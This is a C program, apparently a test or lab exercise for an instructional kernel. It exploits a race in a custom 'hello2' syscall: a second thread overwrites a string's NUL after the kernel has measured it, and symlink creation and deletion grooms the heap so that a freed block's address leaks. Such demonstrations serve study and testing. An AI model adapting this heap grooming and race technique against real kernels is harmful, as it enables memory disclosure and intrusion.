/* SPDX-License-Identifier: MIT */
/*
 * race-strlen [CALLS]: makes the kernel print what lies behind a block of its
 * heap.
 *
 * The name fills such a block to the last byte, which is its NUL. Once the
 * kernel has found the NUL and measured the name by it, the adversary writes
 * a letter there. Behind the block shall lie a free one, which begins with
 * the address of the next: so we have the kernel free a few, side by side.
 */
#include <errno.h>
#include <race.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define BLOCK 32 /* the smallest that the kernel's heap gives */
#define LINKS 7 /* with 8 the address would end in a zero byte */

static char name[BLOCK + 4];
static struct hello2_in in = { name, BLOCK - 1, 7 };
static struct hello2_out out;

static void *adversary(void *unused)
{
	while (race_goes_on()) {
		name[BLOCK - 1] = '!';
		sched_yield();
		name[BLOCK - 1] = '\0';
	}
	return NULL;
}

/*
 * The kernel keeps a symbolic link's target in such a block, gives out blocks
 * from high addresses to low ones, and the one freed last before all others.
 */
static void arrange_heap(void)
{
	char path[] = "/tmp/0";
	char *digit = &path[sizeof(path) - 2];

	for (*digit = '0'; *digit < '0' + LINKS; ++*digit)
		syscall(SYS_symlink, ".", path);
	for (*digit = '0'; *digit < '0' + LINKS; ++*digit)
		unlink(path);
}

int main(int argc, char *argv[])
{
	unsigned int calls = argc > 1 ? strtoul(argv[1], NULL, 0) : 1;

	memset(name, 'b', BLOCK - 1);
	if (setuid(NOBODY) || race_begin(adversary)) {
		perror("race-strlen");
		return 2;
	}
	arrange_heap();
	while (calls--) {
		if (syscall(SYS_HELLO2, &in, &out) < 0)
			printf("hello2: %s\n", strerror(errno));
		else
			printf("nr_calls %u\n", out.nr_calls);
	}
	race_end();
	return 0;
}
